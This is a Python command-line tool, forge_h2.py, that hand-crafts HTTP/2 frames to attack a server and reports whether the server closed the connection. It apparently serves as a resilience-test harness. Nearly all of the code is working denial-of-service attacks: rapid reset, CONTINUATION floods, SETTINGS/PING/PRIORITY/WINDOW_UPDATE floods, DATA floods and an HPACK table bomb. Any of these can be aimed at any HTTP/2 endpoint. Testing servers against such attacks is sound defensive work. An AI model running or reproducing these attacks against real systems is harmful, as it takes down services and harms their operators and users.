"""A viewer over HTTP/2 that keeps to no rule: frames made by hand.

    forge_h2.py --connect ADDRESS:PORT --host NAME --ca FILE [--ticket T] [--seconds S] [--frames N] ATTACK

Sends the attack until the connection is closed, S seconds have passed or N frames are out, and prints one
line of JSON: {"frames": sent, "closed": whether the other side closed it, "goaway": the code of its GOAWAY or null,
"answers": how many requests were answered, "seconds": how long it lasted}.
"""

import argparse
import itertools
import json
import selectors
import socket
import ssl
import struct
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

# Frames that are made before the socket is asked again.
BATCH = 64


class Forger:
    def __init__(self, authority, ticket):
        self.authority, self.ticket = authority, ticket
        self.encoder = Encoder()
        self.streams = itertools.count(1, 2)

    def block(self, method="GET", path="/echo", more=()):
        fields = [(":method", method), (":scheme", "https"), (":authority", self.authority), (":path", path)]
        if self.ticket:
            fields.append(("x-phlix-ticket", self.ticket))
        return self.encoder.encode(fields + list(more))

    def request(self, stream, flags=("END_STREAM", "END_HEADERS"), **how):
        return HeadersFrame(stream, data=self.block(**how), flags=flags).serialize()

    # Each attack is an endless row of frames; what comes first may be a greeting.

    def rapid_reset(self):
        for stream in self.streams:
            yield self.request(stream)
            yield RstStreamFrame(stream, error_code=8).serialize()

    def continuation(self):
        yield self.request(next(self.streams), flags=())
        while True:
            # Literal without indexing: a name and a value of one byte.
            yield ContinuationFrame(1, data=b"\x00\x01x\x01y").serialize()

    def empty_continuation(self):
        yield self.request(next(self.streams), flags=())
        while True:
            yield ContinuationFrame(1).serialize()

    def settings(self):
        while True:
            yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()

    def ping(self):
        while True:
            yield PingFrame(0, opaque_data=b"12345678").serialize()

    def priority(self):
        while True:
            yield PriorityFrame(1, depends_on=3, stream_weight=5).serialize()

    def window(self):
        while True:
            yield WindowUpdateFrame(0, window_increment=1).serialize()

    def empty_data(self):
        stream = next(self.streams)
        yield self.request(stream, flags=("END_HEADERS",), method="POST", path="/upload")
        while True:
            yield DataFrame(stream).serialize()

    def small_data(self):
        stream = next(self.streams)
        yield self.request(stream, flags=("END_HEADERS",), method="POST", path="/upload")
        while True:
            yield DataFrame(stream, data=b"x").serialize()

    def unknown(self):
        while True:
            yield struct.pack(">HBBBL", 0, 8, 0xBE, 0, 0) + b"12345678"

    def hpack_bomb(self):
        # One field of 3 KB in the table, and then a byte for each time it is said.
        stream = next(self.streams)
        bomb = b"\x40\x04bomb\x7f" + bytes([0x80 | (3000 - 127) & 0x7F, (3000 - 127) >> 7]) + b"b" * 3000
        yield HeadersFrame(stream, data=self.block() + bomb, flags=("END_STREAM", "END_HEADERS")).serialize()
        for stream in self.streams:
            yield HeadersFrame(stream, data=self.block() + b"\xbe" * 12_000, flags=("END_STREAM", "END_HEADERS")).serialize()

    def made_reset_by_window(self):
        for stream in self.streams:
            yield self.request(stream)
            # An increment of zero is an error of the stream (RFC 9113 s.6.9).
            yield struct.pack(">HBBBLL", 0, 4, 8, 0, stream, 0)

    def made_reset_by_data(self):
        for stream in self.streams:
            yield self.request(stream)
            # After END_STREAM (RFC 9113 s.5.1).
            yield DataFrame(stream, data=b"more").serialize()

    def made_reset_by_length(self):
        for stream in self.streams:
            # More body than was said (RFC 9113 s.8.1.1).
            yield self.request(stream, flags=("END_HEADERS",), method="POST", more=[("content-length", "1")])
            yield DataFrame(stream, data=b"more", flags=("END_STREAM",)).serialize()

    def dribbled_head(self):
        yield self.request(next(self.streams), flags=())
        while True:
            yield b""


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--connect", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--ticket", default="")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--frames", type=int, default=1_000_000)
    parser.add_argument("attack")
    args = parser.parse_args()

    address, port = args.connect.rsplit(":", 1)
    tls = ssl.create_default_context(cafile=args.ca)
    tls.set_alpn_protocols(["h2"])
    plain = socket.create_connection((address.strip("[]"), int(port)))
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    peer = tls.wrap_socket(plain, server_hostname=args.host)
    peer.setblocking(False)

    forger = Forger(f"{args.host}:{port}", args.ticket)
    attack = getattr(forger, args.attack.replace("-", "_"))()
    pending = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
    begun = time.monotonic()
    came, busy = b"", True
    told = {"frames": 0, "closed": False, "goaway": None, "answers": 0}
    selector = selectors.DefaultSelector()
    selector.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE)
    while not told["closed"] and time.monotonic() - begun < args.seconds:
        if len(pending) < 64 * 1024 and told["frames"] < args.frames:
            more = list(itertools.islice(attack, BATCH))
            told["frames"] += sum(1 for frame in more if frame)
            pending += b"".join(more)
            # An attack that waits has nothing to say for now.
            busy = any(more)
        # What the peer said last is read before its reset takes it away.
        try:
            piece = peer.recv(65_536)
            told["closed"] = not piece
            came += piece
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            told["closed"] = True
        while len(came) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(came[:9]))
            if len(came) < 9 + length:
                break
            if frame.type == 7:
                told["goaway"] = struct.unpack(">L", came[13:17])[0]
            told["answers"] += frame.type == 1
            came = came[9 + length :]
        if told["closed"]:
            break
        try:
            if pending:
                pending = pending[peer.send(pending) :]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            # Reset while writing: what is left to read is read above.
            pending = b""
            told["closed"] = True
        writes = pending or (busy and told["frames"] < args.frames)
        selector.modify(peer, selectors.EVENT_READ | (selectors.EVENT_WRITE if writes else 0))
        selector.select(0.05)
    told["seconds"] = round(time.monotonic() - begun, 3)
    print(json.dumps(told), flush=True)


main()
